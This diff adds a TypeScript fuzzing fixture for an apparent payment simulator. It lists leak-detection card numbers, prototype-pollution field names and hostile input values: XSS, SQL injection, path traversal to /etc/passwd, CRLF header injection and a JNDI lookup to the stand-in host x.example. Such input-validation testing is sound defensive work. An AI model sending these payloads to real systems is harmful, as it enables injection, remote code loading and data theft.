@@ -1,0 +1,210 @@
+import type { Random } from '../../../simulation/random.ts'
+
+/**
+ * Numbers of cards that stand nowhere else: wherever one of them is found whole, it leaked. They pass
+ * the check digit and are charged like any other.
+ */
+export const CARD_NUMBERS = ['4929123456789015', '5212345678901234', '371449635398431'] as const
+
+const DIGIT_SETS = ['٠١٢٣٤٥٦٧٨٩', '０１２３４５６７８９', '०१२३४५६७८९']
+
+/** A card number as people write it into the wrong field. */
+export function writtenCardNumber(random: Random): string {
+  const number = random.pick(CARD_NUMBERS)
+  switch (random.integer(0, 4)) {
+    case 0:
+      return number
+    case 1:
+      return number.replace(/(.{4})(?=.)/g, `$1${random.pick([' ', '-', '.', ' - ', '\u00a0'])}`)
+    case 2:
+      return `card ${number}, please`
+    case 3:
+      return [...number].join(random.pick(['', ' ', '-', '_']))
+    default: {
+      const digits = [...random.pick(DIGIT_SETS)]
+      return [...number].map((digit) => digits[Number(digit)]).join('')
+    }
+  }
+}
+
+export const HOSTILE_NAMES: readonly string[] = [
+  '__proto__',
+  '__proto__.polluted',
+  '__proto__[polluted]',
+  'constructor',
+  'constructor.prototype.polluted',
+  'customParameters[__proto__]',
+  'customParameters[constructor]',
+  'customParameters[__proto__.polluted]',
+  'customer.__proto__.polluted',
+  'cart.items[__proto__].name',
+  'cart.items[0].__proto__.polluted',
+  'cart.items[0].constructor',
+  'cart.items.length',
+  'cart.items[length]',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  'length',
+  '0',
+  '[0]',
+  '[]',
+  '.',
+  '..',
+  '',
+  ' amount',
+  'AMOUNT',
+  'amount.',
+  'amount[0]',
+  'amount[]',
+  'customer',
+  'customer.',
+  'customer..givenName',
+  'cart.items[',
+  'cart.items[0',
+  'cart.items[0].',
+  'cart.items[0]name',
+  'cart.items[0][0].name',
+  'customParameters[',
+  'customParameters[]',
+  'customParameters[a]b]',
+  'customParameters[a][b]',
+  'customParameters[SIMULATOR_outcome]',
+  'customParameters',
+  'card',
+  'card.number.number',
+  'caгd.number',
+  'card․number',
+]
+
+export const INDICES: readonly string[] = [
+  '0',
+  '1',
+  '5',
+  '998',
+  '999',
+  '1000',
+  '65536',
+  '4294967295',
+  '4294967296',
+  '9007199254740993',
+  '00',
+  '01',
+  '-1',
+  '+1',
+  '1.0',
+  '1e2',
+  '0x1',
+  ' 1',
+  '٣',
+  '',
+  'n',
+  'NaN',
+]
+
+export const HOSTILE_VALUES: readonly string[] = [
+  '',
+  ' ',
+  '0',
+  '-0',
+  '00000000000000000000092.00',
+  '-1.00',
+  '1e308',
+  '1e400',
+  '-1e308',
+  '1e-7',
+  '92,00',
+  '92.',
+  '.92',
+  '92.001',
+  '9999999999.99',
+  '99999999999.99',
+  '9007199254740993',
+  '1'.repeat(40),
+  'NaN',
+  'Infinity',
+  'null',
+  'undefined',
+  'true',
+  'FALSE',
+  'on',
+  'EUR',
+  'eur',
+  'JPY',
+  'KWD',
+  'XXX',
+  'PA',
+  'DB',
+  'CD',
+  'CP',
+  'RV',
+  'RF',
+  'FINAL',
+  'VISA',
+  'GOOGLEPAY',
+  '2028-02-30',
+  '0000-00-00',
+  'https://shop.example/?a=b&c=d',
+  'javascript:alert(1)',
+  'http://[::1',
+  '<script>alert(1)</script>',
+  "'; DROP TABLE payment; --",
+  '$' + '{jndi:ldap://x.example/a}',
+  '../../../etc/passwd',
+  '%00',
+  '%zz',
+  '{"a":1}',
+  '[object Object]',
+  '\0',
+  'a\0b',
+  '\u0001',
+  '\u007f',
+  '\u0085',
+  '\u2028',
+  '\r\nSet-Cookie: a=b',
+  '\u202e1234',
+  '\u200f\u200e',
+  '\ufeff92.00',
+  '\ud800',
+  '\udfff\ud800',
+  '\ufffe\uffff',
+  '👩‍👩‍👧‍👦',
+  'Z̸̢̛a̷l̶g̵o̴',
+  'ﷺ'.repeat(30),
+  'ß'.repeat(129),
+  '800.100.152',
+  'timeout',
+  'decline:800.100.152',
+]
+
+/** Signs that mean something to one parser or another. */
+export const SIGNS: readonly string[] = [
+  '.',
+  '[',
+  ']',
+  '[0]',
+  '[n]',
+  '=',
+  '&',
+  ';',
+  '%',
+  '%00',
+  '%2',
+  '%C0%80',
+  '%ED%A0%80',
+  '%u0041',
+  '+',
+  '"',
+  '\\',
+  '\\u0000',
+  '{',
+  '}',
+  ',',
+  ':',
+  '\0',
+  '\n',
+  ' ',
+  '\u202e',
+  '\ud800',
+  '__proto__',
+]
